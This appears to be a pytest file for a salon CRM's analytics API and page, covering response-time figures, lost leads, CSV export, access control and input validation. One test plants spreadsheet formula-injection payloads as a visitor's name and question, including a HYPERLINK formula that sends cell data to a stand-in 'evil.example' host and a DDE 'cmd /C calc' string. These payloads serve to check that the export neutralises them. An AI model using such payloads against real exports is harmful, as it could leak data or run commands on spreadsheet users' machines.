"""The analytics API and page over real HTTP, on a salon small enough that every answer is
obvious: Oksana asks on Telegram on a Tuesday morning, the bot answers in 30 s, and she books;
Taras asks on the web chat on a Thursday night, staff answer after 10 min, and he never books
(a lost lead). Owners and admins see the figures, a master gets 403, nobody signed in 401;
bad periods, channels and days are 400s that say what is wrong."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from zoneinfo import ZoneInfo

import aiohttp
import pytest
from sqlmodel import select

from crm_store.analytics import Table
from crm_store.appointments import Author, book, set_status
from crm_store.db import transaction
from crm_store.models import Client, Conversation, Message, Staff
from crm_store.staff import add_staff, hash_password
from crm_store.timeutil import as_utc
from hub.web.analytics_api import table_csv
from tests.salon import RULES, Salon, build_salon, kyiv
from tests.support import RunningHub, client_session, login, message_row

NOW = kyiv("2026-11-20 12:00")  # a Friday
PASSWORD = "s3cret-pass"
NOVEMBER = {"from": "2026-11-01", "to": "2026-11-30"}
ASKED = kyiv("2026-11-10 11:00")  # Tuesday: Olena and Iryna work 10-19
ASKED_LATE = kyiv("2026-11-12 22:00")  # Thursday night: nobody works


@dataclass
class World:
    salon: Salon
    taras: int
    telegram: int  # Oksana's conversation
    webchat: int  # Taras's conversation


async def world(hub: RunningHub) -> World:
    hub.hub.clock = lambda: NOW
    salon = await build_salon(hub.hub.sessions)
    async with transaction(hub.hub.sessions) as session:
        await add_staff(session, email="owner@salon.test", password=PASSWORD, role="owner")
        await add_staff(
            session, email="admin@salon.test", password=PASSWORD, role="admin", language="en"
        )
        olena = (await session.exec(select(Staff).where(Staff.email == "olena@salon.test"))).one()
        olena.password_hash = hash_password(PASSWORD)
        session.add(olena)
        oksana = await session.get(Client, salon.client)
        assert oksana is not None
        oksana.first_contact_at = as_utc(ASKED)
        taras = Client(
            name="Тарас Шевчук", phone="+380501112233", first_contact_at=as_utc(ASKED_LATE)
        )
        session.add_all([oksana, taras])
        await session.flush()
        conversations = []
        for client_id, channel, at in (
            (salon.client, "telegram", ASKED),
            (taras.id, "webchat", ASKED_LATE),
        ):
            conversation = Conversation(
                client_id=client_id,  # type: ignore[arg-type]
                channel=channel,
                inbox="main",
                chat_id=f"chat-{client_id}",
                opened_at=as_utc(at),
                last_message_at=as_utc(at),
            )
            session.add(conversation)
            await session.flush()
            conversations.append(conversation)
        telegram, webchat = conversations
        session.add_all(
            [
                message_row(telegram, ASKED, "in", "client", "Скільки коштує манікюр?", 1),
                message_row(telegram, ASKED + timedelta(seconds=30), "out", "bot", "800 грн", 2),
                message_row(
                    webchat, ASKED_LATE, "in", "client", "What's the price of a haircut?", 1
                ),
                message_row(webchat, ASKED_LATE + timedelta(minutes=10), "out", "staff", "600", 2),
            ]
        )
        # Oksana books a minute after the bot's answer, and comes.
        appointment = await book(
            session,
            client_id=salon.client,
            service_id=salon.manicure,
            master_id=salon.olena,
            start=kyiv("2026-11-11 10:00"),
            rules=RULES,
            now=ASKED + timedelta(minutes=1),
            author=Author("bot"),
            source="bot",
        )
        await set_status(session, appointment.id, "done", now=NOW, author=Author("staff"))  # type: ignore[arg-type]
    return World(salon, taras.id, telegram.id, webchat.id)  # type: ignore[arg-type]


async def signed(hub: RunningHub, email: str) -> aiohttp.ClientSession:
    session = client_session()
    assert await login(session, hub.base_url, email, PASSWORD) == 200
    return session


async def get_json(session: aiohttp.ClientSession, url: str, **params: str) -> tuple[int, Any]:
    async with session.get(url, params=params) as response:
        return response.status, await response.json()


def by(rows: list[dict[str, Any]], *keys: str) -> dict[Any, dict[str, Any]]:
    return {tuple(row[k] for k in keys) if len(keys) > 1 else row[keys[0]]: row for row in rows}


async def test_every_table_for_a_month(hub: RunningHub) -> None:
    w = await world(hub)
    async with await signed(hub, "owner@salon.test") as owner:
        status, body = await get_json(owner, f"{hub.base_url}/api/analytics", **NOVEMBER)
    assert status == 200, body
    assert body["period"] == {"from": "2026-11-01", "to": "2026-11-30", "timezone": "Europe/Kyiv"}
    assert (body["channel"], body["days"], body["currency"]) == (None, 3, "UAH")
    tables = body["tables"]
    assert list(tables) == [
        "responses", "volume", "sources", "conversion", "containment", "no_shows",
        "occupancy_days", "occupancy_weeks", "returns", "revenue_services", "revenue_masters",
        "lost_leads",
    ]  # fmt: skip
    for table in tables.values():
        for row in table["rows"]:
            assert list(row) == table["columns"]

    responses = by(tables["responses"]["rows"], "dimension", "key")
    # 30 s and 600 s: the median between them, p90 interpolated at 0.9 of the way.
    assert responses[("all", "all")] == {
        "dimension": "all", "key": "all", "inquiries": 2, "answered": 2, "unanswered": 0,
        "median_s": 315, "p90_s": 543,
    }  # fmt: skip
    assert responses[("channel", "telegram")]["median_s"] == 30
    assert responses[("channel", "webchat")]["median_s"] == 600
    assert responses[("responder", "bot")]["median_s"] == 30
    assert responses[("responder", "staff")]["p90_s"] == 600
    assert responses[("hours", "in")]["inquiries"] == 1
    assert responses[("hours", "in")]["median_s"] == 30
    assert responses[("hours", "out")]["median_s"] == 600

    assert sorted((r["date"], r["channel"], r["inquiries"]) for r in tables["volume"]["rows"]) == [
        ("2026-11-10", "telegram", 1),
        ("2026-11-12", "webchat", 1),
    ]
    conversion = by(tables["conversion"]["rows"], "channel")
    assert tables["conversion"]["rows"][0]["channel"] == "all"
    assert (conversion["all"]["inquiries"], conversion["all"]["converted"]) == (2, 1)
    assert conversion["all"]["rate"] == 0.5
    assert (conversion["telegram"]["rate"], conversion["webchat"]["rate"]) == (1, 0)
    contained = by(tables["containment"]["rows"], "channel")
    assert (contained["telegram"]["bot_answered"], contained["telegram"]["contained"]) == (1, 1)
    assert contained["webchat"]["bot_answered"] == 0

    revenue = tables["revenue_masters"]["rows"]
    assert [(r["master"], r["visits"], r["revenue_minor"]) for r in revenue] == [
        ("Olena", 1, 80_000)
    ]
    assert tables["returns"]["rows"] == [
        {"first_visits": 1, "returned": 0, "still_open": 1, "rate": None}
    ]
    (lead,) = tables["lost_leads"]["rows"]
    assert lead == {
        "client_id": w.taras,
        "name": "Тарас Шевчук",
        "phone": "+380501112233",
        "email": None,
        "channel": "webchat",
        "conversation_id": w.webchat,
        # The salon's wall clock with its offset (Kyiv is UTC+2 in November).
        "asked_at": "2026-11-12T22:00:00+02:00",
        "text": "What's the price of a haircut?",
        "last_reply_at": "2026-11-12T22:10:00+02:00",
    }


async def test_one_table_the_channel_filter_and_the_default_period(hub: RunningHub) -> None:
    await world(hub)
    api = f"{hub.base_url}/api/analytics"
    async with await signed(hub, "admin@salon.test") as admin:
        status, body = await get_json(admin, f"{api}/responses", **NOVEMBER, channel="telegram")
        assert status == 200, body
        assert set(body) == {"table", "columns", "rows", "period"}
        assert body["table"] == "responses"
        assert body["columns"][:3] == ["dimension", "key", "inquiries"]
        everything = by(body["rows"], "dimension", "key")
        assert everything[("all", "all")]["inquiries"] == 1
        assert everything[("all", "all")]["median_s"] == 30
        assert ("channel", "webchat") not in everything
        # The filter narrows the message figures, and not those built on appointments.
        status, body = await get_json(admin, f"{api}/lost_leads", **NOVEMBER, channel="telegram")
        assert (status, body["rows"]) == (200, [])
        status, body = await get_json(admin, f"{api}/no_shows", **NOVEMBER, channel="telegram")
        assert body["rows"][0]["done"] == 1
        # Lost leads are those we have not written to for `days`: Taras had our reply 7.6
        # days ago, so with days=8 he is not lost yet.
        status, body = await get_json(admin, f"{api}/lost_leads", **NOVEMBER, days="8")
        assert (status, body["rows"]) == (200, [])
        status, body = await get_json(admin, f"{api}/lost_leads", **NOVEMBER, days="7")
        assert len(body["rows"]) == 1

        # Without a period: the last 30 days, today (in the salon's zone) included.
        status, body = await get_json(admin, f"{api}/volume")
        assert status == 200
        assert body["period"] == {
            "from": "2026-10-22",
            "to": "2026-11-20",
            "timezone": "Europe/Kyiv",
        }
        assert len(body["rows"]) == 2
        status, body = await get_json(admin, f"{api}/volume", to="2026-11-11")
        assert body["period"]["from"] == "2026-10-13"
        assert [r["date"] for r in body["rows"]] == ["2026-11-10"]
        # The longest period there may be, and the most days.
        status, body = await get_json(
            admin, f"{api}/volume", **{"from": "2025-11-30"}, to="2026-11-30", days="90"
        )
        assert (status, body["period"]["from"]) == (200, "2025-11-30")


async def test_csv(hub: RunningHub) -> None:
    w = await world(hub)
    async with await signed(hub, "owner@salon.test") as owner:
        url = f"{hub.base_url}/api/analytics/lost_leads.csv"
        async with owner.get(url, params=NOVEMBER) as response:
            assert response.status == 200
            assert response.content_type == "text/csv"
            assert response.charset == "utf-8"
            assert response.headers["Content-Disposition"] == (
                'attachment; filename="analytics-lost_leads-2026-11-01-2026-11-30.csv"'
            )
            raw = await response.read()
        async with owner.get(
            f"{hub.base_url}/api/analytics/responses.csv", params=NOVEMBER | {"channel": "webchat"}
        ) as response:
            responses = (await response.read()).decode("utf-8")
    # A BOM, so a spreadsheet reads the Cyrillic right; then the header and the rows.
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [
        ["client_id", "name", "phone", "email", "channel", "conversation_id", "asked_at", "text",
         "last_reply_at"],
        [str(w.taras), "Тарас Шевчук", "'+380501112233", "", "webchat", str(w.webchat),
         "2026-11-12T22:00:00+02:00", "What's the price of a haircut?",
         "2026-11-12T22:10:00+02:00"],
    ]  # fmt: skip
    assert "\r\n" in text
    table = list(csv.DictReader(io.StringIO(responses.removeprefix("\ufeff"))))
    all_row = next(r for r in table if r["dimension"] == "all")
    assert (all_row["inquiries"], all_row["median_s"]) == ("1", "600")
    assert {r["key"] for r in table if r["dimension"] == "channel"} == {"webchat"}


# Opening a CSV as a spreadsheet does: Excel, LibreOffice and Google Sheets run a cell that
# starts with one of these as a formula (some drop a leading tab or carriage return first);
# a plain number is read as that number.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def spreadsheet_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def formulas(cells: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run."""
    return [
        cell
        for row in cells
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
    ]


async def test_csv_download_has_no_cell_a_spreadsheet_would_run(hub: RunningHub) -> None:
    w = await world(hub)
    # What a visitor may type in the web chat as their name and their question.
    name = '=HYPERLINK("https://evil.example/?d="&C2,"Call back")'
    question = "@SUM(1+1)*cmd|' /C calc'!A0 what's the price?"
    async with transaction(hub.hub.sessions) as session:
        taras = await session.get(Client, w.taras)
        assert taras is not None
        taras.name = name
        session.add(taras)
        asked = (
            await session.exec(
                select(Message).where(
                    Message.conversation_id == w.webchat, Message.direction == "in"
                )
            )
        ).one()
        asked.text = question
        session.add(asked)
    async with await signed(hub, "owner@salon.test") as owner:
        url = f"{hub.base_url}/api/analytics/lost_leads.csv"
        async with owner.get(url, params=NOVEMBER) as response:
            assert response.status == 200
            cells = spreadsheet_cells((await response.read()).decode("utf-8"))

    assert formulas(cells) == []
    lead = dict(zip(cells[0], cells[1], strict=True))
    # The same text, which a spreadsheet shows as text and does not run.
    assert (lead["name"], lead["text"]) == ("'" + name, "'" + question)
    assert lead["phone"] == "'+380501112233"
    assert lead["client_id"] == str(w.taras)


def test_csv_quotes_every_formula_start_and_keeps_figures_numbers() -> None:
    typed = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "\r=1+2", "-5", "a=1"]
    rows: list[dict[str, Any]] = [{"name": text, "conversation_id": -5} for text in typed]
    rows.append({"name": "Олена", "conversation_id": -2.5, "client_id": -7.0})

    cells = spreadsheet_cells(table_csv(Table("lost_leads", rows), ZoneInfo("Europe/Kyiv")))

    assert formulas(cells) == []
    header, *body = cells
    names = [row[header.index("name")] for row in body]
    assert names == [
        "'=1+2", "'+1+2", "'-1+2", "'@SUM(A1:A2)", "'\t=1+2", "'\r=1+2", "'-5", "a=1", "Олена",
    ]  # fmt: skip
    # Figures the hub computed stay numbers, negative ones too.
    assert [row[header.index("conversation_id")] for row in body] == ["-5"] * 8 + ["-2.5"]
    assert body[-1][header.index("client_id")] == "-7"


async def test_who_may_see_it(hub: RunningHub) -> None:
    await world(hub)
    base = f"{hub.base_url}/api/analytics"
    async with (
        await signed(hub, "olena@salon.test") as master,
        client_session() as stranger,
    ):
        for url in (base, f"{base}/responses", f"{base}/responses.csv", f"{base}/nothing"):
            status, body = await get_json(master, url)
            assert (status, body) == (403, {"error": "only an owner or admin may do this"})
            status, body = await get_json(stranger, url)
            assert (status, body) == (401, {"error": "not signed in"})


@pytest.mark.parametrize(
    ("params", "field", "error"),
    [
        ({"from": "2026-13-01"}, "from", "from must be a date, YYYY-MM-DD"),
        ({"to": "yesterday"}, "to", "to must be a date, YYYY-MM-DD"),
        ({"from": "2026-11-30", "to": "2026-11-01"}, "from", "from must not be after to"),
        ({"from": "2025-11-29", "to": "2026-11-30"}, "to", "the period may be at most 366 days"),
        (
            {"channel": "fax"},
            "channel",
            "channel must be one of telegram, instagram, viber, sms, email, webchat",
        ),
        ({"days": "0"}, "days", "days must be a whole number from 1 to 90"),
        ({"days": "91"}, "days", "days must be a whole number from 1 to 90"),
        ({"days": "three"}, "days", "days must be a whole number from 1 to 90"),
    ],
)
async def test_bad_queries(hub: RunningHub, params: dict[str, str], field: str, error: str) -> None:
    await world(hub)
    base = f"{hub.base_url}/api/analytics"
    async with await signed(hub, "owner@salon.test") as owner:
        for url in (base, f"{base}/volume", f"{base}/volume.csv"):
            status, body = await get_json(owner, url, **params)
            assert (status, body) == (
                400,
                {"error": error, "details": [{"field": field, "error": error}]},
            )


async def test_an_unknown_table(hub: RunningHub) -> None:
    await world(hub)
    async with await signed(hub, "owner@salon.test") as owner:
        for name in ("revenue", "lost_leads.json", "COLUMNS"):
            for url in (f"analytics/{name}", f"analytics/{name}.csv"):
                status, body = await get_json(owner, f"{hub.base_url}/api/{url}")
                assert status == 404, (url, body)
                assert body["error"].startswith("no table")
                assert "responses" in body["tables"]


# The page (without a browser: what the server sends) -------------------------------------------


async def test_the_page(hub: RunningHub) -> None:
    w = await world(hub)
    page = f"{hub.base_url}/inbox/analytics"
    async with (
        await signed(hub, "owner@salon.test") as owner,
        await signed(hub, "olena@salon.test") as master,
        client_session() as stranger,
    ):
        async with stranger.get(page, params=NOVEMBER, allow_redirects=False) as response:
            assert response.status == 302
            location = response.headers["Location"]
            assert location.startswith("/inbox/login?next=") and "/inbox/analytics" in location
        async with master.get(page, params={"lang": "en"}) as response:
            assert response.status == 403
            html = await response.text()
        assert "Only owners and admins see the analytics." in html
        assert "<svg" not in html

        async with owner.get(page, params=NOVEMBER | {"lang": "en"}) as response:
            assert response.status == 200
            assert "script-src 'self'" in response.headers["Content-Security-Policy"]
            html = await response.text()
        # The CSP forbids inline styles and scripts: the page has neither.
        assert "style=" not in html
        assert "<script>" not in html
        assert html.count('role="img"') >= 10
        assert "30 s · p90 30 s" in html  # Telegram, answered by the bot
        assert "10 min · p90 10 min" in html  # the web chat, by staff
        assert "800 UAH" in html
        assert f'href="/inbox?c={w.webchat}"' in html
        assert "Тарас Шевчук" in html
        assert "2026-11-12 22:00" in html
        assert "/api/analytics/lost_leads.csv?from=2026-11-01&amp;to=2026-11-30" in html

        async with owner.get(page, params={"from": "2026-11-30", "to": "2026-11-01"}) as response:
            assert response.status == 400
            # The language the owner chose last (?lang=en, kept in a cookie).
            assert "The period starts after it ends." in await response.text()
